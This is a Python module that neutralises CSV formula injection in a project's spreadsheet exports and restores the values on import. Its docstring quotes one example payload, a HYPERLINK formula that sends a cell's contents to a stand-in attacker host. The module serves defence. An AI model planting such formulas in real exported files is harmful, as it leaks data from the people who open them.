"""CSV cells that a spreadsheet cannot run (OWASP "CSV injection"). Coordinators open
Maillage's CSV files in Excel or LibreOffice; a partner's name typed as
`=HYPERLINK("http://evil.example/?"&A1)` would otherwise run as a formula there.

A text cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading
apostrophe, which spreadsheets show as text and never evaluate. Plain numbers ("-4.89",
"+33612345678") are not formulas and are left as they are, so coordinates stay numbers.
`restore` undoes `neutralise`, so that an exported folder imports back unchanged; a text
that already starts with apostrophes before a trigger gets one more, keeping the two exact
inverses.

The library defusedcsv does the first half, but misses tab and carriage return and has no
inverse for our import, so these few lines are ours.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Mapping
from typing import Any

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"^[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?$")


def _needs_guard(text: str) -> bool:
    body = text.lstrip("'")
    return body.startswith(TRIGGERS) and not _NUMBER.match(body)


def neutralise(value: Any) -> Any:
    """The cell as a spreadsheet must see it; numbers and other non-text values pass."""
    if isinstance(value, str) and _needs_guard(value):
        return "'" + value
    return value


def restore(text: str) -> str:
    """The value `neutralise` was given, from the text it returned."""
    if text.startswith("'") and _needs_guard(text[1:]):
        return text[1:]
    return text


def rows_to_csv(rows: Iterable[Mapping[str, Any]]) -> str:
    """Rows of one table (same keys each) as CSV text with a header line; empty if none."""
    buffer = io.StringIO()
    writer: csv.DictWriter[str] | None = None
    for row in rows:
        if writer is None:
            writer = csv.DictWriter(buffer, fieldnames=list(row))
            writer.writeheader()
        writer.writerow({key: neutralise(value) for key, value in row.items()})
    return buffer.getvalue()
